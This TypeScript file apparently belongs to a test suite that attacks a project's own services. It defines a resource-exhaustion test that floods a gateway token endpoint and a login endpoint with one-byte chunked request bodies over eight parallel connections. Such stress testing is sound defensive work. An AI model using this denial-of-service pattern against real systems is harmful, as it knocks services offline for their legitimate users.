import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../../attack.ts';
import { inParallel, strangerSocket, whenWritable } from '../../hostile-client.ts';

const HEAD = 'HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n';
const CHUNKS = '1\r\nx\r\n'.repeat(10_000);
const CONNECTIONS = 8;

/** Each byte of a body is a piece of work of its own. Half of them go on for ever, the others come back again and again. */
export const attack: Attack<{ readonly heads: readonly { readonly url: string; readonly head: string }[] }> = {
  title: 'a stranger uploads bodies in chunks of one byte over 8 connections',
  prepare: async (scene) => ({
    heads: [
      { url: scene.gatewayUrl, head: `POST /gateway/v1/token ${HEAD}` },
      { url: scene.controlUrl, head: `POST /v1/auth/login ${HEAD}` },
    ],
  }),
  spend: ({ heads }, signal) =>
    inParallel(CONNECTIONS, signal, async (turn) => {
      const { url, head } = heads[turn % 2] ?? { url: '', head: '' };
      const until = performance.now() + (turn % CONNECTIONS < CONNECTIONS / 2 ? Number.POSITIVE_INFINITY : 300);
      const socket = strangerSocket(url);
      socket.resume().write(head);
      while (!signal.aborted && !socket.destroyed && performance.now() < until) {
        if (!socket.write(CHUNKS)) await whenWritable(socket);
      }
      socket.destroy();
      await sleep(10);
    }),
};
